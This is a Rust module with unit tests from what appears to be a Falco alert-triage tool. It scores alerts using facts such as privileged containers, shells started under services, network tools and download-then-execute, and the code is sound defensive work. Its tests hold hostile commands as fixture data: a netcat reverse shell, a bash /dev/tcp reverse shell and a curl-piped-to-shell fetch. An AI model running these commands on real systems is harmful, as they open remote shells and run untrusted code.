//! The fact table: each verdict fact is one small evaluator here, with its id, weight, source
//! and (for benign-leaning facts) confidence in `kb/scoring.toml` (`[[fact]]`). Adding a fact
//! is one row in `FACTS`, its function and test below, and its `[[fact]]` entry.
//!
//! Facts run in table order; the later ones may read what earlier ones found (the running
//! score), so facts that must never lower a malicious verdict come last.

use super::{Reasons, Subject};
use crate::rulecheck::{ExclusionKind, RuleCheck, RuleOrigin, Tri};
use fa_model::{Alert, FieldKey, FieldValueExt};
use serde::Deserialize;
use serde_json::Value;
use std::borrow::Cow;
use std::sync::OnceLock;

/// One `[[fact]]` entry of kb/scoring.toml.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FactSpec {
    pub id: String,
    pub weight: f32,
    /// Where the fact's knowledge comes from.
    pub source: String,
    /// What the fact means, in one line.
    pub about: String,
    /// For facts that support a benign verdict: how sure a benign verdict resting on it is.
    #[serde(default)]
    pub confidence: Option<f32>,
}

/// A fact's weight and confidence, bound from its `[[fact]]` entry.
#[derive(Debug, Clone, Copy)]
pub struct Bound {
    pub weight: f32,
    pub confidence: f32,
}

type Eval = fn(&Subject<'_>, &mut Reasons, Bound);

pub(crate) struct FactDef {
    pub id: &'static str,
    pub eval: Eval,
    /// The fact can support a benign verdict (its entry must give a confidence).
    pub benign: bool,
}

/// Every fact, in evaluation order.
#[rustfmt::skip]
pub(crate) const FACTS: &[FactDef] = &[
    FactDef { id: "benign_test",            eval: benign_test,            benign: true },
    FactDef { id: "benign_housekeeping",    eval: benign_housekeeping,    benign: true },
    FactDef { id: "benign_allowlist",       eval: benign_allowlist,       benign: true },
    FactDef { id: "benign_other",           eval: benign_other,           benign: true },
    FactDef { id: "attack_evidence",        eval: attack_evidence,        benign: false },
    FactDef { id: "privileged_container",   eval: privileged_container,   benign: false },
    FactDef { id: "root_user",              eval: root_user,              benign: false },
    FactDef { id: "interactive_terminal",   eval: interactive_terminal,   benign: false },
    FactDef { id: "sensitive_namespace",    eval: sensitive_namespace,    benign: false },
    FactDef { id: "shell_under_service",    eval: shell_under_service,    benign: false },
    FactDef { id: "network_tool",           eval: network_tool,           benign: false },
    FactDef { id: "mutable_image_tag",      eval: mutable_image_tag,      benign: false },
    FactDef { id: "cross_namespace_secret", eval: cross_namespace_secret, benign: false },
    FactDef { id: "repeated",               eval: repeated,               benign: false },
    FactDef { id: "escalating_incident",    eval: escalating_incident,    benign: false },
    FactDef { id: "entity_attack_evidence", eval: entity_attack_evidence, benign: false },
    FactDef { id: "runs_download",          eval: runs_download,          benign: false },
    FactDef { id: "rule_excluded_upstream", eval: rule_excluded_upstream, benign: true },
    FactDef { id: "rule_excluded_user",     eval: rule_excluded_user,     benign: true },
    FactDef { id: "prevalence_new",         eval: prevalence_new,         benign: false },
    FactDef { id: "prevalence_routine",     eval: prevalence_routine,     benign: true },
];

/// Bind the `[[fact]]` entries to the table: every fact needs exactly one entry and every entry
/// a fact. Returns the weights in table order.
pub(crate) fn bind(specs: &[FactSpec]) -> Result<Vec<Bound>, String> {
    let mut seen = std::collections::HashSet::new();
    for s in specs {
        if !seen.insert(s.id.as_str()) {
            return Err(format!("fact `{}` is listed twice", s.id));
        }
        if !FACTS.iter().any(|f| f.id == s.id) {
            return Err(format!("fact `{}` has no evaluator", s.id));
        }
        if s.source.trim().is_empty() {
            return Err(format!("fact `{}` names no source", s.id));
        }
        if !s.weight.is_finite() {
            return Err(format!("fact `{}`: weight is not a number", s.id));
        }
        if let Some(c) = s.confidence {
            if !(0.0..=1.0).contains(&c) {
                return Err(format!("fact `{}`: confidence {c} is not in 0..1", s.id));
            }
        }
    }
    FACTS
        .iter()
        .map(|f| {
            let s = specs
                .iter()
                .find(|s| s.id == f.id)
                .ok_or_else(|| format!("fact `{}` has no [[fact]] entry", f.id))?;
            if f.benign && s.confidence.is_none() {
                return Err(format!(
                    "fact `{}` can make a verdict benign but gives no confidence",
                    s.id
                ));
            }
            Ok(Bound {
                weight: s.weight,
                confidence: s.confidence.unwrap_or(0.0),
            })
        })
        .collect()
}

/// The fields the context facts read, with their hashes computed once: every alert runs every
/// fact, and hashing the names again was a good part of their cost.
struct Keys {
    privileged: FieldKey,
    ka_privileged: FieldKey,
    uid: FieldKey,
    user_name: FieldKey,
    tty: FieldKey,
    namespaces: [FieldKey; 2],
    proc_name: FieldKey,
    image_tag: FieldKey,
    ka_resource: FieldKey,
    ka_user: FieldKey,
}

fn keys() -> &'static Keys {
    static KEYS: OnceLock<Keys> = OnceLock::new();
    KEYS.get_or_init(|| Keys {
        privileged: FieldKey::new("container.privileged"),
        ka_privileged: FieldKey::new("ka.req.pod.containers.privileged"),
        uid: FieldKey::new("user.uid"),
        user_name: FieldKey::new("user.name"),
        tty: FieldKey::new("proc.tty"),
        namespaces: [
            FieldKey::new("k8s.ns.name"),
            FieldKey::new("ka.target.namespace"),
        ],
        proc_name: FieldKey::new("proc.name"),
        image_tag: FieldKey::new("container.image.tag"),
        ka_resource: FieldKey::new("ka.target.resource"),
        ka_user: FieldKey::new("ka.user.name"),
    })
}

/// The field's value, when present (none of these fields falls back as `hostname` does).
fn value<'a>(a: &'a Alert, k: &FieldKey) -> Option<&'a Value> {
    a.output_fields.get_key(k)
}

/// The field as text (`Alert::field`).
fn text<'a>(a: &'a Alert, k: &FieldKey) -> Option<Cow<'a, str>> {
    value(a, k).and_then(|v| v.as_text())
}

/// `Alert::field(..) == Some(want)`, without writing a number as text.
fn text_is(a: &Alert, k: &FieldKey, want: &str) -> bool {
    value(a, k).is_some_and(|v| v.text_is(want))
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

// --- Known-benign signatures (kb/benign.toml and the rules' own) ---------------------------------

/// The signature kinds each benign fact stands for.
fn signature_fact(s: &Subject<'_>, r: &mut Reasons, b: Bound, kinds: fn(Option<&str>) -> bool) {
    for m in s.benign.iter().filter(|m| kinds(m.kind)) {
        let field = m.evidence.first().map(|(f, _)| f.as_str());
        r.add(
            field,
            || {
                let ev: Vec<String> = m.evidence.iter().map(|(f, v)| format!("{f}={v}")).collect();
                format!("{} ({})", m.reason, ev.join(", "))
            },
            b.weight,
        );
        // A test tool simulates attacks on purpose: its signature stands even against evidence.
        if !s.attack || m.kind == Some("test") {
            r.support_benign(b.confidence);
        }
    }
}

fn benign_test(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    signature_fact(s, r, b, |k| k == Some("test"));
}

fn benign_housekeeping(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    signature_fact(s, r, b, |k| {
        matches!(k, Some("housekeeping") | Some("runtime"))
    });
}

fn benign_allowlist(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    signature_fact(s, r, b, |k| k == Some("allowlist"));
}

fn benign_other(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    signature_fact(s, r, b, |k| {
        !matches!(
            k,
            Some("test") | Some("housekeeping") | Some("runtime") | Some("allowlist")
        )
    });
}

// --- Attack evidence (kb/evidence.toml) ----------------------------------------------------------

/// Each evidence entry carries its own weight; `b.weight` scales them (1.0 = as written).
fn attack_evidence(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    for h in &s.evidence {
        if s.test_signature {
            r.add(
                Some(h.field),
                || {
                    format!(
                        "{} — simulated by Falco's test tool, so it adds nothing",
                        h.text()
                    )
                },
                0.0,
            );
        } else {
            r.add(Some(h.field), || h.text(), h.weight() * b.weight);
        }
    }
}

// --- Context on the alert ------------------------------------------------------------------------

fn privileged_container(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let (a, k) = (s.alert, keys());
    let field = if text_is(a, &k.privileged, "true") {
        "container.privileged"
    } else if text(a, &k.ka_privileged).is_some_and(|v| v.split(',').any(|x| x.trim() == "true")) {
        "ka.req.pod.containers.privileged"
    } else {
        return;
    };
    r.add(
        Some(field),
        || "the container is privileged".into(),
        b.weight,
    );
}

fn root_user(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let (a, k) = (s.alert, keys());
    let field = match value(a, &k.uid).filter(|v| v.has_text()) {
        Some(uid) if uid.text_is("0") => "user.uid",
        None if text_is(a, &k.user_name, "root") => "user.name",
        _ => return,
    };
    r.add(Some(field), || "runs as root".into(), b.weight);
}

fn interactive_terminal(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    // Most alerts carry `proc.tty` 0: compared as a number, the text is written only for a reason.
    let Some(tty) = value(s.alert, &keys().tty) else {
        return;
    };
    if tty.has_text() && !tty.text_is("0") {
        r.add(
            Some("proc.tty"),
            || {
                let tty = tty.as_text().unwrap_or_default();
                format!("an interactive terminal is attached (tty {tty})")
            },
            b.weight,
        );
    }
}

fn sensitive_namespace(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    for k in &keys().namespaces {
        if let Some(ns) = text(s.alert, k) {
            if s.scoring.sensitive_namespaces.contains(ns.as_ref()) {
                r.add(
                    Some(k.name()),
                    || format!("namespace `{ns}` is a sensitive system namespace"),
                    b.weight,
                );
                return;
            }
        }
    }
}

fn shell_under_service(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let Some(name) = text(s.alert, &keys().proc_name) else {
        return;
    };
    if !s.scoring.shells.contains(name.as_ref()) {
        return;
    }
    if let Some(svc) = s
        .alert
        .find_ancestor(|a| s.scoring.services.contains(basename(a)))
    {
        r.add(
            Some("proc.pname"),
            || format!("shell `{name}` was started under `{svc}`, a service process, as remote code execution would be"),
            b.weight,
        );
        r.ground();
    }
}

fn network_tool(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if let Some(name) = text(s.alert, &keys().proc_name) {
        if s.scoring.network_tools.contains(name.as_ref()) {
            r.add(
                Some("proc.name"),
                || {
                    format!(
                        "`{name}` is a network tool often used for reverse shells and transfers"
                    )
                },
                b.weight,
            );
        }
    }
}

fn mutable_image_tag(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if let Some(tag) = text(s.alert, &keys().image_tag) {
        if s.scoring.mutable_tags.contains(tag.as_ref()) {
            r.add(
                Some("container.image.tag"),
                || format!("image tag `{tag}` is mutable: what runs cannot be pinned to a build"),
                b.weight,
            );
        }
    }
}

/// A pod's service account reads secrets of another namespace: what a stolen token does.
fn cross_namespace_secret(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let (a, k) = (s.alert, keys());
    if !text_is(a, &k.ka_resource, "secrets") {
        return;
    }
    let Some(user) = text(a, &k.ka_user) else {
        return;
    };
    let Some(own_ns) = user
        .strip_prefix("system:serviceaccount:")
        .and_then(|rest| rest.split(':').next())
    else {
        return;
    };
    // `namespaces[1]` is `ka.target.namespace`.
    let Some(target) = text(a, &k.namespaces[1]) else {
        return;
    };
    if target == own_ns {
        return;
    }
    r.add(
        Some("ka.user.name"),
        || format!("service account `{user}` of namespace `{own_ns}` reads secrets in namespace `{target}`"),
        b.weight,
    );
}

// --- What the engine saw around the alert --------------------------------------------------------

fn repeated(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let n = s.ctx.cluster_count;
    if n >= s.scoring.repetition.min_count {
        r.add(
            Some("fingerprint"),
            || format!("the same activity repeated {n} times: routine automation is more likely than hands-on activity"),
            b.weight,
        );
    }
}

fn escalating_incident(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if let Some(desc) = &s.ctx.escalating_incident {
        r.add(Some("incident"), || desc.clone(), b.weight);
    }
}

fn entity_attack_evidence(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if let Some(desc) = &s.ctx.entity_attack_evidence {
        r.add(
            Some("incident"),
            || format!("an earlier alert within the correlation window carried attack evidence: {desc}"),
            b.weight,
        );
    }
}

fn runs_download(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if let Some(desc) = &s.ctx.runs_download {
        r.add(
            Some("proc.cmdline"),
            || {
                format!(
                    "runs a file fetched from the network, {desc} (download then execute, T1105)"
                )
            },
            b.weight,
        );
        // Fetching a file and then running it is what a dropper does: an attack pattern in itself.
        r.ground();
    }
}

// --- The rule's own condition (crate::rulecheck) -------------------------------------------------

/// The first check from `origin` whose rule would not fire because a macro, list or exception
/// excludes the alert, with that exclusion.
fn excluded(
    checks: &[RuleCheck],
    user: bool,
) -> Option<(&RuleCheck, &crate::rulecheck::Exclusion)> {
    checks
        .iter()
        .filter(|c| matches!(c.origin, RuleOrigin::User { .. }) == user)
        .filter(|c| c.fires == Tri::False)
        .find_map(|c| c.excluded_by.first().map(|e| (c, e)))
}

fn exclusion_text(c: &RuleCheck, e: &crate::rulecheck::Exclusion, whose: &str) -> String {
    let kind = match e.kind {
        ExclusionKind::Macro => "macro",
        ExclusionKind::List => "list",
        ExclusionKind::Exception => "exception",
        ExclusionKind::Condition => "condition",
    };
    let holds = match (&e.field, &e.value) {
        (Some(f), Some(v)) => format!(" holds {f}={v}"),
        (Some(f), None) => format!(" covers {f}"),
        _ => String::new(),
    };
    format!(
        "{whose} rule `{}` would not fire on this alert: {kind} `{}`{holds}; the alert came from an older or differently tuned rule",
        c.rule, e.name
    )
}

fn rule_excluded_upstream(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if s.attack {
        return;
    }
    // The user's own rule is what they run: if it still fires, upstream's exclusion is moot.
    let user_fires = s
        .ctx
        .rule_checks
        .iter()
        .any(|c| matches!(c.origin, RuleOrigin::User { .. }) && c.fires == Tri::True);
    if user_fires {
        return;
    }
    if let Some((c, e)) = excluded(&s.ctx.rule_checks, false) {
        r.add(
            Some(e.field.as_deref().unwrap_or("rule")),
            || exclusion_text(c, e, "the current upstream"),
            b.weight,
        );
        r.support_benign(b.confidence);
    }
}

fn rule_excluded_user(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    if s.attack {
        return;
    }
    if let Some((c, e)) = excluded(&s.ctx.rule_checks, true) {
        let file = match &c.origin {
            RuleOrigin::User { file } => file.as_str(),
            RuleOrigin::Upstream => "",
        };
        r.add(
            Some(e.field.as_deref().unwrap_or("rule")),
            || exclusion_text(c, e, &format!("your ({file})")),
            b.weight,
        );
        r.support_benign(b.confidence);
    }
}

// --- Prevalence over time (verdict::Prevalence) --------------------------------------------------

fn prevalence_new(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let Some(p) = &s.ctx.prevalence else { return };
    let cfg = &s.scoring.prevalence;
    if p.alerts <= 1 && p.observed_hours() >= cfg.new_after_hours {
        r.add(
            Some("fingerprint"),
            || {
                format!(
                    "first time this activity is seen after {:.0} hours of observation",
                    p.observed_hours()
                )
            },
            b.weight,
        );
    }
}

fn prevalence_routine(s: &Subject<'_>, r: &mut Reasons, b: Bound) {
    let Some(p) = &s.ctx.prevalence else { return };
    let cfg = &s.scoring.prevalence;
    // Never with attack evidence, never for an activity that ever escalated, and never enough
    // to pull a malicious score below the threshold.
    if s.attack || p.ever_escalated || r.score >= s.scoring.thresholds.malicious {
        return;
    }
    let wide = p.hosts >= cfg.min_hosts || p.workloads >= cfg.min_workloads;
    if wide && p.span_hours() >= cfg.min_span_hours {
        r.add(
            Some("fingerprint"),
            || format!(
                "routine: the same activity on {} host(s) and {} workload(s) over {:.0} hours, never escalating",
                p.hosts, p.workloads, p.span_hours()
            ),
            b.weight,
        );
        r.support_benign(b.confidence);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kb::KnowledgeBase;
    use crate::rulecheck::Exclusion;
    use crate::scoring::Scoring;
    use crate::verdict::{Context, Prevalence};
    use chrono::{TimeZone, Utc};
    use fa_model::{Alert, Reason, VerdictKind};
    use serde_json::json;
    use std::sync::OnceLock;

    fn kb() -> &'static KnowledgeBase {
        static KB: OnceLock<KnowledgeBase> = OnceLock::new();
        KB.get_or_init(|| KnowledgeBase::load(&[]).expect("kb loads"))
    }

    fn scoring() -> &'static Scoring {
        static S: OnceLock<Scoring> = OnceLock::new();
        S.get_or_init(|| Scoring::builtin().expect("scoring loads"))
    }

    fn alert(fields: serde_json::Value) -> Alert {
        serde_json::from_value(json!({
            "rule": "A rule nobody wrote", "priority": "Notice", "output": "x",
            "output_fields": fields
        }))
        .expect("valid alert")
    }

    /// The reasons one fact adds for `alert` in `ctx` (judged in full, then filtered by the
    /// fact's reasons' fields and texts is brittle: evaluate the single fact instead).
    fn run(id: &str, alert: &Alert, ctx: &Context) -> Vec<Reason> {
        run_with_score(id, alert, ctx, 0.0)
    }

    fn run_with_score(id: &str, alert: &Alert, ctx: &Context, score: f32) -> Vec<Reason> {
        let s = Subject::new(kb(), scoring(), alert, None, ctx);
        let mut r = Reasons::new(true);
        r.score = score;
        let i = FACTS.iter().position(|f| f.id == id).expect("fact exists");
        (FACTS[i].eval)(&s, &mut r, scoring().fact_bound(i));
        r.list
    }

    fn ctx() -> Context {
        Context {
            cluster_count: 1,
            ..Default::default()
        }
    }

    #[test]
    fn every_fact_has_data_and_every_entry_a_fact() {
        let s = scoring();
        assert_eq!(s.facts.len(), FACTS.len());
        let mut specs = s.facts.clone();
        specs.push(FactSpec {
            id: "no_such_fact".into(),
            weight: 1.0,
            source: "x".into(),
            about: "x".into(),
            confidence: None,
        });
        assert!(bind(&specs).unwrap_err().contains("no evaluator"));
        let missing: Vec<FactSpec> = s.facts.iter().skip(1).cloned().collect();
        assert!(bind(&missing).unwrap_err().contains("no [[fact]] entry"));
    }

    #[test]
    fn benign_test_signature_matches_event_generator() {
        let a = alert(json!({
            "proc.exepath": "/bin/event-generator", "proc.cmdline": "event-generator run --loop",
            "container.image.repository": "falcosecurity/event-generator"
        }));
        let got = run("benign_test", &a, &ctx());
        assert!(!got.is_empty());
        assert!(got.iter().all(|r| r.weight < 0.0), "{got:#?}");
        let other = alert(
            json!({"proc.exepath": "/usr/bin/event-generator", "proc.cmdline": "event-generator run"}),
        );
        assert!(run("benign_test", &other, &ctx()).is_empty());
    }

    #[test]
    fn benign_housekeeping_and_other_signatures_keep_to_their_kinds() {
        let a = alert(json!({
            "proc.exepath": "/bin/event-generator", "proc.cmdline": "event-generator run --loop",
            "container.image.repository": "falcosecurity/event-generator"
        }));
        assert!(run("benign_housekeeping", &a, &ctx()).is_empty());
        assert!(run("benign_other", &a, &ctx()).is_empty());
        assert!(run("benign_allowlist", &a, &ctx()).is_empty());
    }

    #[test]
    fn attack_evidence_adds_each_hit_with_its_own_weight_and_field() {
        let a = alert(json!({"proc.cmdline": "nc 10.0.0.1 4444 -e /bin/sh", "proc.name": "nc"}));
        let got = run("attack_evidence", &a, &ctx());
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].field.as_deref(), Some("proc.cmdline"));
        assert!(got[0].weight >= 8.0);
        let plain = alert(json!({"proc.cmdline": "nc -z db 5432", "proc.name": "nc"}));
        assert!(run("attack_evidence", &plain, &ctx()).is_empty());
    }

    #[test]
    fn privileged_container_from_either_field() {
        let a = alert(json!({"container.privileged": true}));
        assert_eq!(
            run("privileged_container", &a, &ctx())[0].field.as_deref(),
            Some("container.privileged")
        );
        let k = alert(json!({"ka.req.pod.containers.privileged": [false, true]}));
        assert_eq!(
            run("privileged_container", &k, &ctx())[0].field.as_deref(),
            Some("ka.req.pod.containers.privileged")
        );
        assert!(run(
            "privileged_container",
            &alert(json!({"container.privileged": false})),
            &ctx()
        )
        .is_empty());
    }

    #[test]
    fn root_user_by_uid_or_name() {
        assert_eq!(
            run("root_user", &alert(json!({"user.uid": 0})), &ctx()).len(),
            1
        );
        assert_eq!(
            run("root_user", &alert(json!({"user.name": "root"})), &ctx()).len(),
            1
        );
        assert!(run(
            "root_user",
            &alert(json!({"user.uid": 1000, "user.name": "root"})),
            &ctx()
        )
        .is_empty());
    }

    #[test]
    fn interactive_terminal_only_with_a_tty() {
        assert_eq!(
            run(
                "interactive_terminal",
                &alert(json!({"proc.tty": 34816})),
                &ctx()
            )
            .len(),
            1
        );
        assert!(run(
            "interactive_terminal",
            &alert(json!({"proc.tty": 0})),
            &ctx()
        )
        .is_empty());
    }

    #[test]
    fn sensitive_namespace_from_the_list() {
        assert_eq!(
            run(
                "sensitive_namespace",
                &alert(json!({"k8s.ns.name": "kube-system"})),
                &ctx()
            )
            .len(),
            1
        );
        assert!(run(
            "sensitive_namespace",
            &alert(json!({"k8s.ns.name": "shop"})),
            &ctx()
        )
        .is_empty());
    }

    #[test]
    fn shell_under_service_needs_a_shell_and_a_service_ancestor() {
        let a = alert(json!({"proc.name": "bash", "proc.pname": "nginx"}));
        assert_eq!(run("shell_under_service", &a, &ctx()).len(), 1);
        let b = alert(json!({"proc.name": "bash", "proc.pname": "sshd"}));
        assert!(run("shell_under_service", &b, &ctx()).is_empty());
    }

    #[test]
    fn network_tool_by_process_name() {
        assert_eq!(
            run(
                "network_tool",
                &alert(json!({"proc.name": "socat"})),
                &ctx()
            )
            .len(),
            1
        );
        assert!(run("network_tool", &alert(json!({"proc.name": "curl"})), &ctx()).is_empty());
    }

    #[test]
    fn mutable_image_tag_from_the_list() {
        assert_eq!(
            run(
                "mutable_image_tag",
                &alert(json!({"container.image.tag": "latest"})),
                &ctx()
            )
            .len(),
            1
        );
        assert!(run(
            "mutable_image_tag",
            &alert(json!({"container.image.tag": "1.2.3"})),
            &ctx()
        )
        .is_empty());
    }

    #[test]
    fn cross_namespace_secret_reads_by_a_service_account() {
        let other = alert(
            json!({"ka.user.name": "system:serviceaccount:shop:web", "ka.target.resource": "secrets", "ka.target.namespace": "prod", "ka.verb": "list"}),
        );
        assert_eq!(run("cross_namespace_secret", &other, &ctx()).len(), 1);
        let own = alert(
            json!({"ka.user.name": "system:serviceaccount:shop:web", "ka.target.resource": "secrets", "ka.target.namespace": "shop"}),
        );
        assert!(run("cross_namespace_secret", &own, &ctx()).is_empty());
        let person = alert(
            json!({"ka.user.name": "alice", "ka.target.resource": "secrets", "ka.target.namespace": "prod"}),
        );
        assert!(run("cross_namespace_secret", &person, &ctx()).is_empty());
        let pods = alert(
            json!({"ka.user.name": "system:serviceaccount:shop:web", "ka.target.resource": "pods", "ka.target.namespace": "prod"}),
        );
        assert!(run("cross_namespace_secret", &pods, &ctx()).is_empty());
    }

    #[test]
    fn repeated_from_the_cluster_count() {
        let many = Context {
            cluster_count: 500,
            ..Default::default()
        };
        assert_eq!(run("repeated", &alert(json!({})), &many).len(), 1);
        assert!(run("repeated", &alert(json!({})), &ctx()).is_empty());
    }

    #[test]
    fn entity_attack_evidence_from_the_context() {
        let c = Context {
            entity_attack_evidence: Some("a reverse shell".into()),
            ..ctx()
        };
        let got = run("entity_attack_evidence", &alert(json!({})), &c);
        assert_eq!(got.len(), 1);
        assert!(got[0].text.contains("a reverse shell"));
        assert!(run("entity_attack_evidence", &alert(json!({})), &ctx()).is_empty());
    }

    #[test]
    fn runs_download_from_the_context_grounds_the_verdict() {
        let c = Context {
            runs_download: Some("`./x.py`, downloaded earlier".into()),
            ..ctx()
        };
        let got = run("runs_download", &alert(json!({})), &c);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].field.as_deref(), Some("proc.cmdline"));
        assert!(got[0].text.contains("./x.py"));
        assert!(run("runs_download", &alert(json!({})), &ctx()).is_empty());
    }

    #[test]
    fn escalating_incident_from_the_context() {
        let c = Context {
            escalating_incident: Some("its container progresses".into()),
            ..ctx()
        };
        let got = run("escalating_incident", &alert(json!({})), &c);
        assert_eq!(got[0].field.as_deref(), Some("incident"));
        assert!(run("escalating_incident", &alert(json!({})), &ctx()).is_empty());
    }

    fn check(origin: RuleOrigin, fires: Tri, kind: ExclusionKind) -> RuleCheck {
        RuleCheck {
            origin,
            rule: "Disallowed K8s User".into(),
            fires,
            excluded_by: vec![Exclusion {
                kind,
                name: "allowed_k8s_users".into(),
                field: Some("ka.user.name".into()),
                value: Some("eks:node-manager".into()),
            }],
        }
    }

    fn user() -> RuleOrigin {
        RuleOrigin::User {
            file: "my_rules.yaml".into(),
        }
    }

    #[test]
    fn upstream_exclusion_is_benign_evidence_naming_the_list_and_field() {
        let c = Context {
            rule_checks: vec![check(RuleOrigin::Upstream, Tri::False, ExclusionKind::List)].into(),
            ..ctx()
        };
        let a = alert(json!({"ka.user.name": "eks:node-manager"}));
        let got = run("rule_excluded_upstream", &a, &c);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].field.as_deref(), Some("ka.user.name"));
        assert!(
            got[0].text.contains("list `allowed_k8s_users`"),
            "{}",
            got[0].text
        );
        assert!(got[0].weight < 0.0);
        // A value the rule itself negates (`not proc.pname in (..., logrotate, ...)`) is an
        // allow-list written inline: it counts too.
        let inline = Context {
            rule_checks: vec![check(
                RuleOrigin::Upstream,
                Tri::False,
                ExclusionKind::Condition,
            )]
            .into(),
            ..ctx()
        };
        assert_eq!(run("rule_excluded_upstream", &a, &inline).len(), 1);
        // Not from a user rule, not when the rule fires or is unknown.
        assert!(run("rule_excluded_user", &a, &c).is_empty());
        for (fires, kind) in [
            (Tri::True, ExclusionKind::List),
            (Tri::Unknown, ExclusionKind::List),
        ] {
            let c = Context {
                rule_checks: vec![check(RuleOrigin::Upstream, fires, kind)].into(),
                ..ctx()
            };
            assert!(
                run("rule_excluded_upstream", &a, &c).is_empty(),
                "{fires:?} {kind:?}"
            );
        }
    }

    #[test]
    fn a_user_rule_that_still_fires_overrules_the_upstream_exclusion() {
        let c = Context {
            rule_checks: vec![
                check(RuleOrigin::Upstream, Tri::False, ExclusionKind::List),
                check(user(), Tri::True, ExclusionKind::List),
            ]
            .into(),
            ..ctx()
        };
        assert!(run("rule_excluded_upstream", &alert(json!({})), &c).is_empty());
    }

    #[test]
    fn user_exclusion_is_stronger_than_upstream() {
        let c = Context {
            rule_checks: vec![check(user(), Tri::False, ExclusionKind::Exception)].into(),
            ..ctx()
        };
        let got = run("rule_excluded_user", &alert(json!({})), &c);
        assert_eq!(got.len(), 1);
        assert!(got[0].text.contains("my_rules.yaml"));
        let up = Context {
            rule_checks: vec![check(RuleOrigin::Upstream, Tri::False, ExclusionKind::List)].into(),
            ..ctx()
        };
        let up = run("rule_excluded_upstream", &alert(json!({})), &up);
        assert!(got[0].weight < up[0].weight);
    }

    #[test]
    fn no_exclusion_counts_against_attack_evidence() {
        let a = alert(json!({"proc.cmdline": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}));
        let c = Context {
            rule_checks: vec![
                check(RuleOrigin::Upstream, Tri::False, ExclusionKind::List),
                check(user(), Tri::False, ExclusionKind::Macro),
            ]
            .into(),
            ..ctx()
        };
        assert!(run("rule_excluded_upstream", &a, &c).is_empty());
        assert!(run("rule_excluded_user", &a, &c).is_empty());
    }

    fn prevalence(hosts: u32, hours: i64, alerts: u64) -> Prevalence {
        let t0 = Utc
            .with_ymd_and_hms(2026, 1, 1, 0, 0, 0)
            .single()
            .expect("valid time");
        Prevalence {
            hosts,
            workloads: hosts,
            alerts,
            first_seen: Some(t0),
            last_seen: Some(t0 + chrono::Duration::hours(hours)),
            observed_since: Some(t0),
            ever_escalated: false,
        }
    }

    #[test]
    fn routine_prevalence_needs_breadth_time_and_no_escalation() {
        let wide = Context {
            prevalence: Some(prevalence(10, 72, 300)),
            ..ctx()
        };
        let a = alert(json!({"proc.cmdline": "df -h"}));
        let got = run("prevalence_routine", &a, &wide);
        assert_eq!(got.len(), 1);
        assert!(got[0].weight < 0.0);
        let narrow = Context {
            prevalence: Some(prevalence(1, 72, 300)),
            ..ctx()
        };
        assert!(run("prevalence_routine", &a, &narrow).is_empty());
        let brief = Context {
            prevalence: Some(prevalence(10, 1, 300)),
            ..ctx()
        };
        assert!(run("prevalence_routine", &a, &brief).is_empty());
        let mut p = prevalence(10, 72, 300);
        p.ever_escalated = true;
        let escalated = Context {
            prevalence: Some(p),
            ..ctx()
        };
        assert!(run("prevalence_routine", &a, &escalated).is_empty());
    }

    #[test]
    fn routine_prevalence_never_lowers_a_malicious_score_or_excuses_evidence() {
        let wide = Context {
            prevalence: Some(prevalence(10, 72, 300)),
            ..ctx()
        };
        let a = alert(json!({"proc.cmdline": "df -h"}));
        assert!(run_with_score("prevalence_routine", &a, &wide, 9.0).is_empty());
        let evil = alert(json!({"proc.cmdline": "curl http://203.0.113.9/x | sh"}));
        assert!(run("prevalence_routine", &evil, &wide).is_empty());
    }

    #[test]
    fn new_activity_only_after_a_period_of_observation() {
        let a = alert(json!({}));
        let mut p = prevalence(1, 0, 1);
        p.observed_since = p.first_seen.map(|t| t - chrono::Duration::hours(100));
        let c = Context {
            prevalence: Some(p.clone()),
            ..ctx()
        };
        let got = run("prevalence_new", &a, &c);
        assert_eq!(got.len(), 1);
        assert!(got[0].weight >= 0.0);
        p.observed_since = p.first_seen;
        let c = Context {
            prevalence: Some(p),
            ..ctx()
        };
        assert!(run("prevalence_new", &a, &c).is_empty());
    }

    #[test]
    fn routine_prevalence_alone_makes_an_ordinary_alert_benign() {
        let wide = Context {
            prevalence: Some(prevalence(10, 72, 300)),
            ..ctx()
        };
        let a = alert(json!({"proc.cmdline": "df -h"}));
        let v = crate::verdict::judge(kb(), scoring(), &a, None, &wide);
        assert_eq!(v.kind, VerdictKind::Benign, "{v:#?}");
    }
}
